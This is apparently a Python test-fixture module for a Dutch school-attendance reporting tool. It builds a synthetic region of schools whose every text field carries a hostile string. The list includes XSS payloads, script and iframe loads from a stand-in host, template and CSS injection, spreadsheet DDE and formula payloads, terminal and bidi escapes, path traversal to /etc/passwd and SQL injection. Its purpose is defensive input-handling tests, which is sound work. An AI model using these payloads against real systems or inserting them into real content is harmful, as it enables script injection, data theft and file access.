"""Strings that try to be more than text, and an SWV in which every text field of every delivery is such a string."""

import csv
import io
import json
from collections.abc import Iterable, Sequence
from pathlib import Path

_DONE = "window.PWNED=1"
KINDS = {
    # Script, in tags and in what a browser makes of them.
    "script": (
        f"<script>{_DONE}</script>",
        f"<ScRiPt >{_DONE}</sCrIpT>",
        f"<script/x>{_DONE}</script>",
        f"<<script>{_DONE};//<</script>",
        f"</script><script>{_DONE}</script>",
        f"</title></style><script>{_DONE}</script>",
        f"--><script>{_DONE}</script>",
        f"]]><script>{_DONE}</script>",
        f"</textarea><script>{_DONE}</script>",
        f"</td></tr></table><script>{_DONE}</script>",
        f"</details></main><script>{_DONE}</script>",
        f"<noscript><p title='</noscript><script>{_DONE}</script>'>",
        "<script src=https://kwaad.example/x.js></script>",
        "<script type=module>import('https://kwaad.example/x.js')</script>",
    ),
    # Events.
    "events": (
        f"<img src=x onerror={_DONE}>",
        f"<img src=x:x onerror='{_DONE}'>",
        f"<svg onload={_DONE}>",
        f"<svg><script>{_DONE}</script></svg>",
        f"<svg><animate onbegin={_DONE} attributeName=x dur=1s>",
        f"<body onload={_DONE}>",
        f"<input autofocus onfocus={_DONE}>",
        f"<details open ontoggle={_DONE}>",
        f"<video><source onerror={_DONE}></video>",
        f"<marquee onstart={_DONE}>x</marquee>",
        f"<div onmouseover={_DONE}>muis</div>",
        f"<math><mtext><img src=x onerror={_DONE}></mtext></math>",
        f"<select><img src=x onerror={_DONE}></select>",
    ),
    # Out of an attribute.
    "attributes": (
        f'" onmouseover="{_DONE}',
        f"' onmouseover='{_DONE}",
        f'"><img src=x onerror={_DONE}>',
        f"'><svg onload={_DONE}>",
        f"` onmouseover=`{_DONE}",
        f'" autofocus onfocus="{_DONE}" x="',
        f"x onmouseover={_DONE} y",
        f'"/><script>{_DONE}</script>',
    ),
    # Addresses and what asks something of the network.
    "addresses": (
        f"javascript:{_DONE}",
        f"JaVaScRiPt:{_DONE}",
        f"data:text/html,<script>{_DONE}</script>",
        f"<a href=javascript:{_DONE}>klik</a>",
        f"<iframe srcdoc='<script>parent.{_DONE}</script>'></iframe>",
        "<iframe src=https://kwaad.example></iframe>",
        "<object data=https://kwaad.example></object>",
        "<embed src=https://kwaad.example>",
        "<link rel=stylesheet href=https://kwaad.example/x.css>",
        "<base href=https://kwaad.example/>",
        "<meta http-equiv=refresh content='0;url=https://kwaad.example'>",
        "<form action=https://kwaad.example><input type=submit></form>",
        "<img src=https://kwaad.example/x.png>",
    ),
    # Templates, styles and chart labels.
    "templates": (
        "{{7*7}}",
        "{% for x in y %}",
        "{# weg #}",
        "${7*7}",
        "x#{7*7}",
        "<%= 7*7 %>",
        "<style>body{display:none}</style>",
        "}body{background:url(https://kwaad.example/x)}",
        "@import url(https://kwaad.example/x.css)",
        "$\\href{javascript:alert(1)}{x}$",
        "<b>vet</b><a href='https://kwaad.example'>x</a>",
    ),
    # Formulas of a spreadsheet.
    "formulas": (
        "=1+1",
        '=HYPERLINK("https://kwaad.example","x")',
        "+1+1",
        "-1+1",
        "@SUM(1,1)",
        "=cmd|' /C calc'!A0",
        "＝1＋1",
        "|calc",
        "%0A=1+1",
    ),
    # Signs that mislead a screen, a terminal or a path.
    "signs": (
        "\u202egnirts\u202c",
        "\u2066<script>\u2069",
        "\x1b[31mrood\x1b[0m",
        "\x1b]0;titel\x07",
        "&lt;script&gt;&#0;&#x202e;",
        "\\u003cscript\\u003e",
        "%3Cscript%3E",
        "../../../etc/passwd",
        "..\\..\\swv.toml",
        "con.csv:aux",
        "'; drop table raw_leerling; --",
        "a;b|c%d",
        "h" * 2_000,
        "😀🏫 Zürich ﬁ ạ̈",
    ),
}
PAYLOADS = tuple(payload for kind in KINDS.values() for payload in kind)
# Weekly lessons on every day of the week that the demo period has; all of them missed for five weeks.
_DAYS = ("2025-11-03", "2025-12-05")
_NOT_IN_A_FILE_NAME = "/\0"
_LONGEST_FILE_NAME = 120


def write_hostile_region(folder: Path, payloads: Sequence[str] = PAYLOADS) -> Path:
    """One school a payload, which stands in each of its text fields; each tenth cannot be used. Returns the toml."""
    lines = [
        "[swv]",
        'code = "VO9901"',
        f"naam = {_quote(payloads[0])}",
        'protocol = "noord-kennemerland"',
        'vakantieregio = "noord"',
        "pdf = false",
        "[paden]",
        'aanlevering = "aanlevering"',
        'uitvoer = "uitvoer"',
        'opslag = "opslag"',
    ]
    for number, payload in enumerate(payloads):
        school = make_school_id(number)
        lines += ["[[school]]", f'id = "{school}"', f"naam = {_quote(payload)}", 'sector = "VO"', 'lvs = "sjabloon"']
        _write_school(folder / "aanlevering" / school, payload, refused=number % 10 == 9)
    _write_lists(folder / "aanlevering" / "leerplicht", payloads)
    toml = folder / "swv.toml"
    toml.write_text("\n".join(lines) + "\n", encoding="utf-8")
    return toml


def make_school_id(number: int) -> str:
    return f"{10 + number % 90}{chr(65 + number // 90)}A00"


def _quote(text: str) -> str:
    # A basic string of TOML is written as one of JSON, but for DEL.
    return json.dumps(text, ensure_ascii=False).replace("\x7f", "\\u007f")


def _write_school(folder: Path, payload: str, *, refused: bool) -> None:
    folder.mkdir(parents=True)
    name = "".join(sign for sign in payload if sign not in _NOT_IN_A_FILE_NAME)[:_LONGEST_FILE_NAME]
    numbers = ("24680135", "24680136")
    begin, end = _DAYS
    if refused:
        _write(folder / f"x{name}.csv", [(payload, "kolom"), (payload, payload)])
        return
    _write(
        folder / f"l{name}.csv",
        [
            ("leerlingnummer", "klas", "leerjaar", "onderwijssoort", "woongemeente", "geboortedatum", payload),
            *((number, payload, payload, payload, payload, "2011-05-01", payload) for number in numbers),
        ],
    )
    _write(
        folder / f"r{name}.csv",
        [
            ("groep", "weekdag", "lesuur", "begintijd", "eindtijd"),
            *((payload, day, 1, "08:30", "09:20") for day in range(1, 6)),
        ],
    )
    _write_timetables(folder, name, payload)
    _write(folder / "groepen.csv", [("leerlingnummer", "groep"), (numbers[0], payload)])
    _write(
        folder / "codes.csv",
        [
            ("code", "omschrijving", "soort"),
            (payload, payload, "spijbelen"),
            ("Z", payload, "ziek"),
            ("E", "e", payload),
        ],
    )
    _write(
        folder / f"a{name}.csv",
        [
            ("leerlingnummer", "begin", "eind", "code"),
            (numbers[0], begin, end, payload),
            (numbers[1], begin, end, "Z"),
            (numbers[1], "2025-10-06", "2025-10-07", f"{payload}?"),
            (payload, begin, end, payload),
            (numbers[0], payload, payload, "Z"),
        ],
    )
    _write(folder / "kalender.csv", [("van", "tot", "omschrijving"), ("2025-10-10", "2025-10-10", payload)])
    _write(
        folder / "register.csv",
        [("leerlingnummer", "plan_van_aanpak", "typologie", "interventies"), (numbers[0], "J", payload, payload)],
    )
    _write(
        folder / "duo.csv",
        [
            ("leerlingnummer", "meldsoort", "begindatum", "einddatum", "gemeld_op"),
            (numbers[0], "16uur", begin, end, "2025-12-08"),
            (numbers[0], payload, begin, end, "2025-12-08"),
        ],
    )


def _write_timetables(folder: Path, name: str, payload: str) -> None:
    """As programs write them: one lesson in the summer holiday, of a group, and of pupils, that are the payload."""
    # Sunday 10 August 2025, 08:30 to 09:20.
    times = {"start": 1_754_807_400, "end": 1_754_810_400}
    texts = {"subjects": [payload], "teachers": [payload], "remark": payload, payload: payload}
    lessons = [{**times, **texts, "groups": [payload]}, {**times, **texts, "students": [payload], "type": payload}]
    lessons += [{**times, "students": [payload]}, {"start": payload, "end": payload, "groups": [payload]}]
    (folder / f"z{name}.json").write_text(json.dumps({"response": {"data": lessons}}), encoding="utf-8")
    one_line = " ".join(payload.split("\n"))
    event = ("BEGIN:VEVENT", "DTSTART:20250810T083000", "DTEND:20250810T092000", f"SUMMARY:{one_line}", "END:VEVENT")
    bad = ("BEGIN:VEVENT", f"DTSTART;TZID={one_line}:{one_line}", f"RRULE:{one_line}", "END:VEVENT")
    calendar = ("BEGIN:VCALENDAR", f"X-WR-CALNAME:{one_line}", *event, *bad, "END:VCALENDAR", "")
    (folder / f"i{name}.ics").write_text("\r\n".join(calendar), encoding="utf-8", newline="")


def _write_lists(folder: Path, payloads: Iterable[str]) -> None:
    folder.mkdir(parents=True)
    _write(
        folder / "absoluut.csv",
        [("volgnummer", "woongemeente", "sinds"), *((payload, payload, "2025-10-01") for payload in payloads)],
    )


def _write(file: Path, rows: Iterable[Sequence[object]]) -> None:
    text = io.StringIO()
    csv.writer(text, delimiter=";", lineterminator="\n").writerows(rows)
    file.write_text(text.getvalue(), encoding="utf-8")
